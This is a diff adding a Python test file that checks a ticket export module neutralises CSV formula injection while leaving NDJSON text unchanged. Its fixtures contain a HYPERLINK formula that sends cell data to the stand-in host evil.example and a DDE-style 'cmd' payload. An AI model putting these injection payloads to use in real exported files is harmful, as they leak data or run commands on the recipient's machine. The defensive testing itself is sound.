@@ -0,0 +1,33 @@
+import csv
+import io
+import json
+from datetime import datetime
+
+from backend.export import encode_csv, encode_ndjson
+
+COLUMNS = ["ticket_number", "description", "date_created"]
+ROW = ("CYB-1", '=HYPERLINK("http://evil.example/?d="&A1,"Click for refund")', datetime(2024, 5, 1, 10, 30))
+
+
+def csv_text(rows):
+    return b"".join(encode_csv(COLUMNS, [rows])).decode()
+
+
+def test_csv_neutralises_formulas():
+    assert '"\'=HYPERLINK(""http://evil.example/?d=""&A1,""Click for refund"")"' in csv_text([ROW])
+
+
+def test_every_formula_prefix_is_neutralised():
+    cells = ["+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\tx", "\rx"]
+    rows = list(csv.reader(io.StringIO(csv_text([("CYB-1", cell, None) for cell in cells]), newline="")))
+    assert [row[1] for row in rows[1:]] == ["'" + cell for cell in cells]
+
+
+def test_ordinary_values_are_untouched():
+    assert csv_text([("CYB-1", "Lost 5000 via UPI", 42)]).splitlines()[1] == "CYB-1,Lost 5000 via UPI,42"
+    assert csv_text([ROW]).splitlines()[1].endswith(",2024-05-01T10:30:00")
+
+
+def test_ndjson_keeps_the_text_as_is():
+    line = b"".join(encode_ndjson(COLUMNS, [[ROW]])).decode()
+    assert json.loads(line)["description"] == ROW[1]